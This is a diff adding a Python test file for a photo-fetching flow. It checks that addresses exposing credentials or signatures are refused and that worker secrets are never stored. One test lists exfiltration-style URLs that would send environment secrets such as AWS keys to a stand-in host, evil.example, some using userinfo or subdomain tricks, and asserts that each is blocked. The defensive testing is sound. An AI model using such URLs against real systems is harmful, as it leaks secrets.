@@ -1,0 +1,143 @@
+"""Attacks on what a run is asked with: secrets that would be kept, and secrets that would leave."""
+
+from __future__ import annotations
+
+import base64
+import http.server
+from collections.abc import Iterator
+from pathlib import Path
+
+import jsonschema
+import pytest
+from pydantic import TypeAdapter, ValidationError
+
+from flows.addresses import filled
+from flows.fetching import origin, store_photo
+from flows.parameters import CubeRef, PhotoRef
+from geoloc.errors import UsageError
+from tests.loopback import serving_on_loopback
+
+SHOWN = [
+    "https://us:PASSWD@photos.example/a.jpg",
+    "https://TOKEN@photos.example/a.jpg",
+    "https://${USER}:PASSWD@photos.example/a.jpg",
+    "https://us:${P}@photos.example/a.jpg",
+    "https:///us:PASSWD@photos.example/a.jpg",
+    "https://us:PASSWD@photos.example",
+    "https://photos.example/a.jpg?sig=SECRET",
+    "https://photos.example/a.jpg?w=1&Sig=SECRET",
+    "https://photos.example/a.jpg?w=1;key=SECRET",
+    "https://photos.example/a.jpg?X-Amz-Signature=0123&w=1",
+    "https://photos.example/a.jpg?X-Amz-Security-Token=abc",
+    "https://photos.example/a.jpg?X-Goog-Signature=abc",
+    "https://photos.example/a.jpg?access_token=abc",
+    "https://photos.example/a.jpg?api_key=abc",
+    "https://photos.example/a.jpg?apikey=abc",
+    "https://photos.example/a.jpg?accessKey=abc",
+    "https://photos.example/a.jpg?oh=00_AfB",
+    "https://photos.example/a.jpg?ex=1&is=2&hm=abc",
+    "https://photos.example/a.jpg?sig=${SIG}x",
+    "https://photos.example/a.jpg?sig=x${SIG}",
+    "https://photos.example/a.jpg?x=0123456789abcdef0123456789abcdef",
+    "https://photos.example/a.jpg#token=abc",
+    "https://photos.example/a?b?sig=abc",
+    "https://api.telegram.org/file/bot123456:AAF-abcdefghijklmnopqrstuv/photos/1.jpg",
+]
+HARMLESS = [
+    "/srv/in/a.jpg",
+    "/srv/a@b/key=1?sig=2.jpg",
+    "https://photos.example/a.jpg",
+    "https://photos.example:8443/@channel/a.jpg",
+    "https://photos.example/a.jpg?width=800&list=3&monkey=2",
+    "https://photos.example/w.php?title=File:Saint_Sophia_Cathedral_in_the_old_town.jpg",
+    "https://photos.example/a.jpg?sig=${SIG}",
+    "https://photos.example/a.jpg?w=1&token=${T}&h=2",
+    "https://${USER}:${PASS}@photos.example/a.jpg",
+    "https://${TOKEN}@photos.example:8443/a.jpg?key=${KEY}",
+]
+
+
+@pytest.mark.parametrize("address", SHOWN)
+@pytest.mark.parametrize("kind", [PhotoRef, CubeRef], ids=["photo", "cube"])
+def test_an_address_that_shows_a_secret_is_refused(kind: object, address: str) -> None:
+    """By the schema, which the server holds against it before it keeps it, and by the flow."""
+    adapter = TypeAdapter(kind)
+    assert not jsonschema.Draft202012Validator(adapter.json_schema()).is_valid(address)
+    with pytest.raises(ValidationError):
+        adapter.validate_python(address)
+
+
+@pytest.mark.parametrize("address", HARMLESS)
+def test_an_address_without_is_taken(address: str) -> None:
+    adapter = TypeAdapter(PhotoRef)
+    assert jsonschema.Draft202012Validator(adapter.json_schema()).is_valid(address)
+    assert adapter.validate_python(address) == address
+
+
+def test_who_is_refused_reads_what_to_do() -> None:
+    with pytest.raises(jsonschema.ValidationError) as refused:
+        jsonschema.validate(SHOWN[0], TypeAdapter(PhotoRef).json_schema())
+    assert "a variable of the worker's environment" in refused.value.message
+
+
+class _Guarded(http.server.BaseHTTPRequestHandler):
+    """A photo for one who brings the user, the password and the signature."""
+
+    def do_GET(self) -> None:
+        right = base64.b64encode(b"us er:p@ss/1").decode()
+        known = self.headers.get("Authorization") == f"Basic {right}"
+        self.send_response(200 if known and self.path == "/a.jpg?sig=S%2FG%26n" else 403)
+        self.end_headers()
+        self.wfile.write(b"pixels")
+
+    def log_message(self, *_: object) -> None:
+        """Say nothing."""
+
+
+@pytest.fixture
+def port(monkeypatch: pytest.MonkeyPatch) -> Iterator[int]:
+    for name, value in {"P_USER": "us er", "P_PASS": "p@ss/1", "P_SIG": "S/G&n"}.items():
+        monkeypatch.setenv(name, value)
+    with serving_on_loopback(_Guarded) as port:
+        here = f"127.0.0.1:{port}"
+        monkeypatch.setenv("GEOLOC_PHOTO_KEYS", f"P_USER@{here}, P_PASS@{here},P_SIG@{here}")
+        yield port
+
+
+def test_the_workers_secrets_are_used_and_kept_nowhere(port: int, tmp_path: Path) -> None:
+    address = f"http://${{P_USER}}:${{P_PASS}}@127.0.0.1:{port}/a.jpg?sig=${{P_SIG}}"
+    path = store_photo(address, tmp_path)
+    assert path.read_bytes() == b"pixels"
+    assert origin(path, address)["fetched_from"] == f"127.0.0.1:{port}/a.jpg"
+    kept = [str(file) + file.read_text(errors="replace") for file in tmp_path.rglob("*.*")]
+    assert not any(value in text for text in kept for value in ("us er", "p@ss", "S/G", "S%2FG"))
+
+
+@pytest.mark.parametrize(
+    ("address", "why"),
+    [
+        ("https://evil.example/?q=${AWS_SECRET_ACCESS_KEY}", "may not be sent to evil.example"),
+        ("https://evil.example/${P_PASS}", "may not be sent to evil.example"),
+        ("https://127.0.0.1@evil.example/${P_PASS}", "may not be sent to evil.example"),
+        ("https://127.0.0.1/${P_PASS}", "may not be sent to 127.0.0.1:"),
+        ("https://${P_PASS}.evil.example/", "may not be sent to"),
+        ("https://127.0.0.1:9/${HOME}", "may not be sent to"),
+    ],
+)
+def test_no_other_secret_leaves_and_none_to_another_host(
+    port: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, address: str, why: str
+) -> None:
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "SECRET")
+    with pytest.raises(UsageError, match=why) as refused:
+        store_photo(address, tmp_path)
+    assert "SECRET" not in str(refused.value).replace("AWS_SECRET_ACCESS_KEY", "")
+    assert "\n" not in str(refused.value)
+    assert port
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_a_secret_that_is_allowed_but_not_set_is_told(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("GEOLOC_PHOTO_KEYS", "GONE@photos.example")
+    monkeypatch.delenv("GONE", raising=False)
+    with pytest.raises(UsageError, match=r"\$\{GONE\} is not set in the worker's environment"):
+        filled("https://photos.example/?sig=${GONE}")
